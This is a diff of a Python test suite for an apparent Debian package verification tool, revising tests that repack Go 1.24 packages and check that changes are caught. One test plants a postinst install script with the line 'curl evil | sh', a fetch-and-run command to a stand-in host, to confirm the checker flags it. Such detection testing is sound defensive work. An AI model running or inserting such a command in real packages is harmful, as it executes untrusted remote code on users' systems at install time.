@@ -205,10 +205,11 @@ def test_a_change_of_what_is_checked_does_not_pass(
     check: Check,
     tmp_path: Path,
 ) -> None:
-    packages = list(trixie_go124_debs)
     deb = debs[package]
-    packages[package] = deb.repack(tmp_path, {path: make(deb) for path, make in changes.items()})
-    result = check(*packages)
+    changed = deb.repack(tmp_path, {path: make(deb) for path, make in changes.items()})
+    # What lies below the link to the sources is there with them alone.
+    others = trixie_go124_debs[1:] if named.startswith("src/") else []
+    result = check(changed, *others)
     if result.status == 1:
         missed = [
             path for path, standing in _standings(result.report).items() if standing not in _PASSES
@@ -222,8 +223,8 @@ def test_a_change_of_what_is_checked_does_not_pass(
 def test_a_script_that_runs_on_installation_is_named(
     debs: list[Deb], trixie_go124_debs: list[Path], check: Check, tmp_path: Path
 ) -> None:
-    go, *others = trixie_go124_debs
+    go, *_others = trixie_go124_debs
     changed = debs[0].repack(tmp_path, {}, {"postinst": b"#!/bin/sh\ncurl evil | sh\n"})
     assert changed.name == go.name
-    found = _standings(check(changed, *others).report)
+    found = _standings(check(changed).report)
     assert found["/DEBIAN/golang-1.24-go.postinst"] == "unexplained"
